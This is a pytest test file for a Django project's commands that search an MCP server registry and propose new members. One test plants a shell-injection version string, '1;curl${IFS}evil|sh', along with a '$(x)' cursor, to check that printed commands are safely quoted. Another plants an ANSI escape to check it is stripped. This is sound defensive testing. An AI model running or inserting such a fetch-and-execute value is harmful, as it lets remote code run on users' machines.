from __future__ import annotations

import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.core.management.base import CommandError

from roster.models import MemberProposal
from tests.support.registry import WEATHER, Registry, serve

pytestmark = pytest.mark.django_db


@pytest.fixture
def server(settings: Any) -> Iterator[Registry]:
    cache.clear()
    with serve() as running:
        settings.GUILD_HALL_REGISTRY_URL = running.url
        yield running


def run(*argv: str) -> str:
    output = io.StringIO()
    call_command(*argv, stdout=output)
    return output.getvalue()


def test_a_search_shows_each_way_and_its_values(server: Registry) -> None:
    text = run("registry", "weather")
    for part in (
        "io.github.anna/weather-mcp@1.2.0  Forecasts for cities",
        "way 2        npm package @anna/weather 1.2.0",
        "--set units='metric|imperial'  optional: The units of temperatures.",
        "--set folder=VALUE  required, may be repeated: A folder with forecasts.",
        "--set WEATHER_API_KEY=SECRET  required: Your key.",
        "--set CITY='Amsterdam Noord'  optional",
        "containers yet",
        "guildhall add_member io.github.anna/weather-mcp@1.2.0",
    ):
        assert part in text


def test_a_long_list_says_how_to_go_on(server: Registry) -> None:
    server.page = 1
    text = run("registry")
    assert "clock" in text
    assert "weather" not in text
    assert "guildhall registry --cursor com.example/clock" in text
    assert "weather" in run("registry", "--cursor", "com.example/clock")


def test_versions_and_json(server: Registry) -> None:
    answer = json.loads(run("registry", WEATHER["name"], "--versions", "--json"))
    assert [each["version"] for each in answer["servers"]] == ["1.2.0", "1.1.0"]


def test_nothing_found_and_faults_are_said(server: Registry) -> None:
    assert "no such server" in run("registry", "nothing")
    server.servers = {"com.example/x": [{"name": "com.example/x", "version": "1\x1b[31m", "description": ""}]}
    text = run("registry", "x")
    assert "no package and no address" in text
    assert "\x1b" not in text
    server.answers["/v0.1/servers"] = (500, b"")
    with pytest.raises(CommandError, match="HTTP 500"):
        run("registry", "other")


def test_nothing_of_the_registry_can_be_a_command_of_its_own(server: Registry) -> None:
    clock = server.servers["com.example/clock"][0]
    server.servers = {"com.example/clock": [{**clock, "version": "1;curl${IFS}evil|sh"}], "com.example/x": [clock]}
    server.page = 1
    assert "add_member 'com.example/clock@1;curl${IFS}evil|sh'" in run("registry")
    answer = {"servers": [{"server": clock}], "metadata": {"nextCursor": "$(x)"}}
    server.answers["/v0.1/servers"] = (200, json.dumps(answer).encode())
    assert "guildhall registry 'a b' --cursor '$(x)'" in run("registry", "a b")


def test_a_server_is_proposed_with_values_of_the_command_line(server: Registry) -> None:
    text = run("add_member", WEATHER["name"], "--set", "folder=/a", "--set", "folder=/b", "--way", "2")
    assert MemberProposal.objects.get().manifest["args"][-2:] == ["/a", "/b"]
    assert "secret to set  weather-WEATHER_API_KEY" in text
    with pytest.raises(CommandError, match="folder: needs a value"):
        run("add_member", WEATHER["name"], "--name", "other")
    with pytest.raises(CommandError, match="KEY=VALUE"):
        run("add_member", WEATHER["name"], "--set", "folder")
